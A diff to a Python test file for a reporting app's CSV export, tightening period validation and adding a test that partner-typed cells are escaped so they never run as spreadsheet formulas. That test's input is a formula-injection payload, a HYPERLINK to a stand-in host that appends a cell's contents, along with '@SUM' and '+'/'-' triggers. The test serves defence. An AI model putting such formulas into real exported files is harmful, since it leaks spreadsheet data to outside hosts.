@@ -1,7 +1,8 @@
-"""Who may export a project's figures, and what an export that does not exist answers."""
+"""Who may export a project's figures, what an export that does not exist answers, and what it never does."""
 
 import pytest
 
+from reporting.exports import csv_bytes
 from reporting.figures import EXPENSE_COLUMNS
 from tests.reporting.helpers import csv_rows, csv_text, export, header
 
@@ -46,12 +47,26 @@ def test_an_unknown_project_is_404(world, client_for):
     assert response.status_code == 404
 
 
-@pytest.mark.parametrize("value", ["other project", "abc", "-1", "99999999"])
+@pytest.mark.parametrize("value", ["other project", "99999999"])
 def test_a_period_outside_the_project_is_404(world, client_for, value, other_project_period):
-    other = other_project_period
-    period = other.pk if value == "other project" else value
+    period = other_project_period.pk if value == "other project" else value
     response = export(client_for(world.users["staff"]), world.project, "expenses.csv", period=period)
     assert response.status_code == 404
     # The project's own period is fine.
     own = export(client_for(world.users["staff"]), world.project, "expenses.csv", period=world.objects["period"].pk)
     assert own.status_code == 200
+
+
+@pytest.mark.parametrize("value", ["abc", "-1", "0", "1.5"])
+def test_a_period_that_is_not_an_id_is_400_naming_it(world, client_for, value):
+    response = export(client_for(world.users["staff"]), world.project, "expenses.csv", period=value)
+    assert response.status_code == 400
+    assert list(response.json()) == ["period"]
+
+
+def test_text_a_partner_typed_never_runs_as_a_formula_in_the_csv():
+    rows = [('=HYPERLINK("http://x.example/?"&A1,"invoice")', "+1", "-", "@SUM(A1)", "Travel – Velenje")]
+    text = csv_bytes(["a", "b", "c", "d", "e"], rows).decode("utf-8-sig")
+
+    cells = text.splitlines()[1]
+    assert cells == '"\'=HYPERLINK(""http://x.example/?""&A1,""invoice"")",\'+1,\'-,\'@SUM(A1),Travel – Velenje'
